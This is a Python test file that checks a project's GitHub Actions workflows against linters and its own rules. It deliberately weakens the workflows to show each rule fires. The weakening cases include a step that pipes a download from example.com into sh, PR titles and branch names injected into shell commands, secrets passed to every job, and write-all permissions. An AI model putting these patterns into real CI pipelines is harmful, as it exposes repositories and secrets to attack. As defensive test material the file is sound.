"""The workflows are audited by tools that nobody here wrote and by our own rules, and every rule is shown to bite."""

from __future__ import annotations

import re
import shutil
import subprocess
from pathlib import Path

import pytest

from flow_audit import LINTERS, NEEDS, RIGHTS, faults, judged
from flow_kit import FLOWS, read_flow
from library_kit import HOME

CHECKOUT = "uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
RECORD_STEP = 'run: peerlore released --library library --output "$RUNNER_TEMP/last/build.json"'
ANNOTATE = 'run: peerlore check --library library --changed-since "$BASE" --format github'
READ = "contents: read # to fetch the library"

LOOSENED = {
    "a comment by the code of the change": ("summary.yml", "          ref: refs/heads/${{ github.event.pull_request.base.ref }}\n", ""),
    "a comment that may push": ("summary.yml", READ.replace("the library", "the library and the change"), "contents: write # to comment"),
    "a comment for forks": ("summary.yml", re.compile(r"    if: .*\n"), ""),
    "words of a change in a comment": ("summary.yml", "NUMBER: ${{ github.event.pull_request.number }}", "NUMBER: ${{ github.event.pull_request.head.ref }}"),
    "a trigger with secrets for strangers": ("check.yml", "on:\n  pull_request:\n", "on:\n  pull_request_target:\n"),
    "a trigger by another run": ("publish.yml", "  workflow_dispatch:\n", "  workflow_dispatch:\n  workflow_run: {workflows: [Preview], types: [completed]}\n"),
    "a trigger by a comment": ("record.yml", "  workflow_dispatch:\n", "  workflow_dispatch:\n  issue_comment:\n"),
    "a check that some changes escape": ("check.yml", "on:\n  pull_request:\n", "on:\n  pull_request:\n    paths: [content/**]\n"),
    "all rights": ("check.yml", "permissions: {}", "permissions: write-all"),
    "rights for every job": ("publish.yml", "permissions: {}", "permissions:\n  contents: write # for all"),
    "no word about rights": ("preview.yml", "permissions: {}\n", ""),
    "a check that may write": ("check.yml", READ, "contents: write # to fetch the library"),
    "a build that may publish": ("publish.yml", READ, f"{READ}\n      pages: write # to publish"),
    "a preview that proves who it is": ("preview.yml", READ, f"{READ}\n      id-token: write # why not"),
    "an action by tag": ("check.yml", CHECKOUT, "uses: actions/checkout@v7"),
    "an action by branch": ("publish.yml", re.compile(r"uses: actions/deploy-pages@\S+ # \S+"), "uses: actions/deploy-pages@main"),
    "an action of somebody else": ("preview.yml", re.compile(r"actions/upload-artifact@(\w+) # \S+"), r"stranger/upload@\1 # v1.0.0"),
    "a title in a shell": ("check.yml", ANNOTATE, "run: echo '${{ github.event.pull_request.title }}'"),
    "a branch's name in a shell": ("preview.yml", "run: peerlore build", "run: echo ${{ github.head_ref }} && peerlore build"),
    "an expression of our own in a shell": ("publish.yml", '"$RUNNER_TEMP/last/build.json"\n', '"${{ runner.temp }}/last/build.json"\n'),
    "code of the change": ("check.yml", "format('refs/heads/{0}', github.base_ref) }}", "github.sha }}"),
    "code of the head": ("preview.yml", "format('refs/heads/{0}', github.base_ref) }}", "github.event.pull_request.head.sha }}"),
    "code of another commit than the one called": (
        "publish.yml",
        "(job.workflow_repository != github.repository && job.workflow_sha) || ",
        "",
    ),
    "a change checked in another place": ("check.yml", "          path: library\n", "          path: library\n          ref: main\n"),
    "credentials left behind": ("check.yml", "persist-credentials: false", "persist-credentials: true"),
    "credentials by default": ("publish.yml", "          persist-credentials: false\n", ""),
    "half of the history": ("publish.yml", "fetch-depth: 0", "fetch-depth: 1"),
    "a cache": ("publish.yml", 'python-version: "3.13"\n', 'python-version: "3.13"\n          cache: pip\n'),
    "a cache in the record": ("record.yml", 'python-version: "3.13"\n', 'python-version: "3.13"\n          cache: pip\n'),
    "parts without hashes": ("check.yml", "--require-hashes --requirement tool/tooling/locks/run.lock", "mkdocs-material"),
    "a job that may be skipped": ("check.yml", "    timeout-minutes: 15\n", "    timeout-minutes: 15\n    if: ${{ !github.event.pull_request.draft }}\n"),
    "a step that fails in silence": ("check.yml", ANNOTATE, f"{ANNOTATE} || true"),
    "a step that may fail": ("publish.yml", RECORD_STEP, f"{RECORD_STEP}\n        continue-on-error: true"),
    "a step for some": ("publish.yml", RECORD_STEP, f"{RECORD_STEP}\n        if: ${{{{ github.actor != 'mara' }}}}"),
    "a run that is cut off while it writes": ("record.yml", "cancel-in-progress: false", "cancel-in-progress: true"),
    "runs in each other's way": ("publish.yml", re.compile(r"concurrency:\n.*\n.*\n"), ""),
    "a job without end": ("preview.yml", "    timeout-minutes: 20\n", ""),
    "a machine that changes": ("preview.yml", "ubuntu-24.04", "ubuntu-latest"),
    "a machine of strangers": ("publish.yml", "    runs-on: ubuntu-24.04", "    runs-on: [self-hosted]"),
    "an image": ("publish.yml", "    runs-on: ubuntu-24.04\n", "    runs-on: ubuntu-24.04\n    container: python:latest\n"),
    "something from the internet": ("publish.yml", "run: peerlore released", "run: curl https://example.com/ | sh; peerlore released"),
    "a secret": ("record.yml", "GITHUB_TOKEN: ${{ github.token }}", "GITHUB_TOKEN: ${{ secrets.EVIDENCE_TOKEN }}"),
    "a secret beside the key": ("record.yml", "ssh-key: ${{ secrets.EVIDENCE_KEY }}", "ssh-key: ${{ secrets.EVIDENCE_KEY || secrets.OTHER }}"),
    "a secret in a check": ("check.yml", "          path: library\n", "          path: library\n          token: ${{ secrets.EVIDENCE_KEY }}\n"),
    "a count that may write in discussions": ("sync.yml", "discussions: read # to count them", "discussions: write # to count them"),
    "a count that is cut off while it writes": ("sync.yml", "cancel-in-progress: false", "cancel-in-progress: true"),
    "a count for every discussion": ("sync.yml", "  workflow_dispatch:\n", "  workflow_dispatch:\n  discussion:\n"),
    "a count with a key without its environment": ("sync.yml", re.compile(r"    environment: evidence.*\n"), ""),
    "a key without its environment": ("record.yml", re.compile(r"    environment: evidence.*\n"), ""),
    "a deployment from any branch": ("publish.yml", re.compile(r"    environment:\n.*\n.*\n"), ""),
    "a recorder from elsewhere": (
        "publish.yml",
        re.compile(r"uses: ./.github/workflows/record.yml.*"),
        "uses: acme/flows/.github/workflows/record.yml@main",
    ),
    "every secret for the recorder": ("publish.yml", "    needs: record\n", "    needs: record\n    secrets: inherit\n"),
    "a deployment that waits for nothing": ("publish.yml", "    needs: build\n", ""),
}  # fmt: skip


def test_our_own_rules_find_nothing() -> None:
    assert faults(FLOWS) == []


@pytest.mark.parametrize("linter", LINTERS)
def test_other_auditors_find_nothing(linter: str) -> None:
    assert judged(linter, FLOWS) == ""


@pytest.mark.parametrize("what", LOOSENED)
def test_the_audit_finds(what: str, tmp_path: Path) -> None:
    name, old, new = LOOSENED[what]
    folder = tmp_path / "workflows"
    shutil.copytree(FLOWS, folder)
    text = (folder / name).read_text("utf-8")
    loosened = old.sub(new, text, count=1) if isinstance(old, re.Pattern) else text.replace(old, new, 1)
    assert loosened != text, "the workflow no longer has what this takes away"
    (folder / name).write_text(loosened, "utf-8")
    assert faults(folder) or judged("zizmor", folder)


def test_three_jobs_can_write_and_one_can_comment() -> None:
    """`publish` lends its first job's rights to `record`, which is one and the same job. `sync` writes numbers that prove nothing."""
    writers = {job: {right for right, level in rights.items() if level == "write"} for (_, job), rights in RIGHTS.items()}
    assert {job for job, rights in writers.items() if rights - {"pull-requests"}} == {"record", "sync", "deploy"}
    assert writers["summary"] == {"pull-requests"}


def test_an_action_has_one_commit_and_one_name_everywhere() -> None:
    pins: dict[str, set[tuple[str, str]]] = {}
    for file in FLOWS.glob("*.yml"):
        for action, commit, version in re.findall(r"uses: (actions/[a-z-]+)@([0-9a-f]{40}) # (v\d+\.\d+\.\d+)", file.read_text("utf-8")):
            pins.setdefault(action, set()).add((commit, version))
    assert len(pins) == 7
    assert {action for action, pin in pins.items() if len(pin) > 1} == set()


def test_publishing_goes_in_order() -> None:
    assert {job: before for (flow, job), before in NEEDS.items() if flow == "publish.yml"} == {"build": "record", "deploy": "build"}
    jobs = read_flow((FLOWS / "publish.yml").read_text("utf-8"))["jobs"]
    uses = [step.get("uses", "").partition("@")[0] for step in jobs["deploy"]["steps"]]
    assert uses == ["actions/download-artifact", "actions/attest", "actions/deploy-pages"], "what cannot be attested is not shown"


def test_every_script_is_bash_that_parses() -> None:
    for file in FLOWS.glob("*.yml"):
        for job in read_flow(file.read_text("utf-8"))["jobs"].values():
            for step in job.get("steps", ()):
                subprocess.run(["bash", "-n"], input=step.get("run", ""), encoding="utf-8", check=True)


# What the manual tells other libraries to write ------------------------------------------------------------------------


def examples() -> dict[str, str]:
    """The workflows that the manual shows, by their names."""
    manual = (HOME / "tooling/docs/maintainer.md").read_text("utf-8")
    return {name: text for text, name in re.findall(r"```yaml\n(# \.github/workflows/([a-z]+\.yml)\n.*?)```", manual, re.DOTALL)}


def test_the_examples_of_the_manual_are_workflows(tmp_path: Path) -> None:
    assert set(examples()) == {"check.yml", "preview.yml", "publish.yml", "summary.yml", "sync.yml"}
    for name, text in examples().items():
        (tmp_path / name).write_text(text, "utf-8")
    assert judged("actionlint", tmp_path) == ""
    assert judged("check-jsonschema", tmp_path) == ""


@pytest.mark.parametrize("name", ["check.yml", "preview.yml", "publish.yml", "summary.yml", "sync.yml"])
def test_the_examples_grant_what_the_called_workflow_needs_and_no_more(name: str) -> None:
    (caller,) = read_flow(examples()[name])["jobs"].values()
    called = read_flow((FLOWS / name).read_text("utf-8"))
    assert re.fullmatch(rf"OWNER/peerlore/\.github/workflows/{name}@[0-9a-f]{{40}}", caller["uses"])
    needed: dict[str, str] = {}
    for job in called["jobs"].values():
        for right, level in job["permissions"].items():
            needed[right] = "write" if "write" in (level, needed.get(right)) else "read"
    assert caller["permissions"] == needed
    assert set(caller.get("secrets", {})) == set(called["on"]["workflow_call"].get("secrets", {}))


def test_the_manual_names_every_input() -> None:
    manual = (HOME / "tooling/docs/maintainer.md").read_text("utf-8")
    for file in FLOWS.glob("*.yml"):
        for name in read_flow(file.read_text("utf-8"))["on"]["workflow_call"]["inputs"]:
            assert f"`{name}" in manual, name
